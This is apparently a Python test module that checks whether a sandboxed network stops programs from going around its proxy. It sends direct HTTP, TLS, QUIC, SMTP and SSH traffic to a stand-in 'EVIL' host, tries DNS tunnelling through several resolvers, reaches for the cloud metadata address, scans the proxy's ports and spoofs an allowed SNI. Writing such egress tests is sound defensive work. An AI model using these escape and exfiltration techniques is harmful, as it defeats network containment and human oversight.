"""Programs that do not ask the proxy (NO_PROXY=*, or one that has never heard of it): the network itself has to stop them."""

from __future__ import annotations

import errno
import socket
import ssl
import struct

from . import places
from .names import AAAA, A, encoded
from .probe import DATAGRAM_S, Hello, Outcome, Probe
from .rows import row


def past(mark: str, address: str, port: int, data: bytes, probe: Probe, kind: int = socket.SOCK_STREAM) -> Outcome:
    """Sends without the proxy; an answer shows that it arrived, and so does the lab."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    answer = b""
    with socket.socket(family, kind) as sender:
        # A network that drops what it does not carry says nothing, so this is not waited for as long as an answer of the proxy.
        sender.settimeout(DATAGRAM_S)
        try:
            sender.connect((address, port))
            sender.send(data)
            answer = sender.recv(4096)
            said = "answered"
        except OSError as error:
            said = errno.errorcode.get(error.errno or 0, "no answer")
    outcome = probe.outcome(mark, said)
    return Outcome(outcome.reached or bool(answer), said, outcome.arrivals)


def http(mark: str) -> bytes:
    return f"GET /{mark} HTTP/1.1\r\nHost: {places.EVIL}\r\n\r\n".encode()


def query(name: str, kind: int = A) -> bytes:
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + encoded(name) + struct.pack("!HH", kind, 1)


def add_stream(name: str, what: str, address: str, port: int) -> None:
    @row(f"direct-{name}", f"without the proxy: {what}")
    def attempt(probe: Probe) -> Outcome:
        mark = probe.mark()
        return past(mark, address, port, http(mark), probe)


add_stream("http", "HTTP to a public address", places.EVIL_ADDRESS, places.PLAIN_PORT)
add_stream("listed", "HTTP to the address of a listed domain", places.ALLOWED_ADDRESS, places.PLAIN_PORT)
add_stream("http6", "HTTP to a public IPv6 address", places.EVIL_ADDRESS_V6, places.PLAIN_PORT)
add_stream("private", "HTTP to a private address", places.PRIVATE["private (10/8)"], places.PLAIN_PORT)
add_stream("metadata", "HTTP to the metadata services of clouds", places.PRIVATE["cloud metadata (169.254.169.254)"], places.PLAIN_PORT)
add_stream("smtp", "mail", places.EVIL_ADDRESS, 25)
add_stream("ssh", "SSH", places.EVIL_ADDRESS, 22)
add_stream("dot", "DNS over TLS", places.EVIL_ADDRESS, 853)


@row("direct-https", "without the proxy: TLS to a public address")
def https(probe: Probe) -> Outcome:
    hello = Hello(places.EVIL)
    return past(hello.mark, places.EVIL_ADDRESS, places.TLS_PORT, hello.records(), probe)


@row("direct-quic", "without the proxy: UDP to port 443 (QUIC)")
def quic(probe: Probe) -> Outcome:
    mark = probe.mark()
    # A long header of version 1 and at least 1200 bytes, as RFC 9000 wants an Initial packet to be.
    data = b"\xc0\x00\x00\x00\x01" + mark.encode()
    return past(mark, places.EVIL_ADDRESS, places.TLS_PORT, data.ljust(1200, b"\0"), probe, socket.SOCK_DGRAM)


@row("direct-quic6", "without the proxy: UDP to port 443 over IPv6")
def quic6(probe: Probe) -> Outcome:
    mark = probe.mark()
    return past(mark, places.EVIL_ADDRESS_V6, places.TLS_PORT, b"\xc0\x00\x00\x00\x01" + mark.encode(), probe, socket.SOCK_DGRAM)


@row("dns-udp", "a DNS tunnel: UDP to port 53 of a public address")
def dns_udp(probe: Probe) -> Outcome:
    mark = probe.mark()
    return past(mark, places.DNS, places.DNS_PORT, query(f"{mark}.{places.EVIL}"), probe, socket.SOCK_DGRAM)


@row("dns-tcp", "a DNS tunnel: TCP to port 53 of a public address")
def dns_tcp(probe: Probe) -> Outcome:
    mark = probe.mark()
    data = query(f"{mark}.{places.EVIL}")
    return past(mark, places.DNS, places.DNS_PORT, struct.pack("!H", len(data)) + data, probe)


@row("dns-proxy-udp", "a DNS tunnel through the proxy's own resolver, UDP")
def dns_proxy_udp(probe: Probe) -> Outcome:
    mark = probe.mark()
    return past(mark, probe.address(), places.DNS_PORT, query(f"{mark}.{places.EVIL}"), probe, socket.SOCK_DGRAM)


@row("dns-proxy-tcp", "a DNS tunnel through the proxy's own resolver, TCP")
def dns_proxy_tcp(probe: Probe) -> Outcome:
    mark = probe.mark()
    data = query(f"{mark}.{places.EVIL}")
    return past(mark, probe.address(), places.DNS_PORT, struct.pack("!H", len(data)) + data, probe)


@row("dns-engine", "a DNS tunnel through the resolver that Docker gives every container (127.0.0.11)")
def dns_engine(probe: Probe) -> Outcome:
    mark = probe.mark()
    return past(mark, "127.0.0.11", places.DNS_PORT, query(f"{mark}.{places.EVIL}"), probe, socket.SOCK_DGRAM)


@row("dns-system", "a DNS tunnel through the system's own way to look up names")
def dns_system(probe: Probe) -> Outcome:
    """By hand to every resolver of /etc/resolv.conf: the C library's own retries would take half a minute."""
    mark, outcomes = probe.mark(), []
    with open("/etc/resolv.conf", encoding="utf-8") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver ")]
    for server in servers:
        for kind in (A, AAAA):
            outcomes.append(past(mark, server, places.DNS_PORT, query(f"{mark}.{places.EVIL}", kind), probe, socket.SOCK_DGRAM))
    return Outcome.joined(*outcomes) if outcomes else Outcome(False, "no resolver is set up")


@row("proxy-ports", "other ports of the proxy's machine")
def proxy_ports(probe: Probe) -> Outcome:
    open_ports = []
    for port in (22, 53, 80, 443, 3129, 3130, 8080, 8443, 8953):
        if port == probe.proxy[1]:
            continue
        try:
            with socket.create_connection((probe.address(), port), DATAGRAM_S):
                open_ports.append({"how": "tcp", "where": f"{probe.address()}:{port}", "text": "accepts connections"})
        except OSError:
            continue
    return Outcome(bool(open_ports), "none open" if not open_ports else "open", open_ports)


@row("direct-tls-ip", "without the proxy: a whole TLS connection with the SNI of a listed domain to an unlisted address")
def tls_ip(probe: Probe) -> Outcome:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((places.EVIL_ADDRESS, places.TLS_PORT), DATAGRAM_S) as connection, context.wrap_socket(connection, server_hostname=places.ALLOWED):
            return Outcome(True, "connected")
    except OSError as error:
        return Outcome(False, errno.errorcode.get(error.errno or 0, str(error)))
